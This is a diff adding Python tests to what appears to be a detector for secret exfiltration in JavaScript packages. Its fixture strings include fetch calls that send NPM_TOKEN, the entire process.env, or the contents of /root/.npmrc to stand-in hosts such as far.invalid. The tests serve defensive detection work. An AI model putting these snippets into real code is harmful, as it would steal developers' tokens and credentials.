@@ -237,3 +237,34 @@ def test_what_is_written_for_readers_is_run(source: str, told: bool) -> None:
 def test_an_address_whose_query_is_filled_says_still_where_it_goes() -> None:
     source = "const u = new URL('https://a.invalid/x'); u.searchParams.set('a', process.env.KEPT); fetch(u)"
     assert ["https://a.invalid/x"] == [flow.target for flow in facts(source).flows]
+
+
+TOKEN = "{headers: {a: process.env.NPM_TOKEN}}"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"fetch(process.env.AT, {TOKEN})",
+        f"const u = new URL(process.env.AT); u.searchParams.append('a', 'b'); fetch(u.href, {TOKEN})",
+    ],
+)
+def test_a_token_sent_where_the_environment_says_is_no_theft(source: str) -> None:
+    assert [] == flows(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"fetch(process.env.AT || 'https://far.invalid/', {TOKEN})",
+        f"let u = process.env.AT; u = u || atob(x); fetch(u, {TOKEN})",
+        f"process.env.AT = 'https://far.invalid'; fetch(process.env.AT, {TOKEN})",
+        "fetch(process.env.AT, {body: JSON.stringify(process.env)})",
+        "fetch(process.env.AT, {body: require('fs').readFileSync('/root/.npmrc')})",
+        f"fetch(`${{process.env.AT}}.far.invalid/x`, {TOKEN})",
+        f"fetch('https://far.invalid/' + process.env.AT, {TOKEN})",
+        f"fetch(new URL('https://far.invalid/', process.env.AT), {TOKEN})",
+    ],
+)
+def test_what_may_go_elsewhere_or_is_more_than_a_token_is_sent(source: str) -> None:
+    assert [N] == [flow[0] for flow in flows(source)]
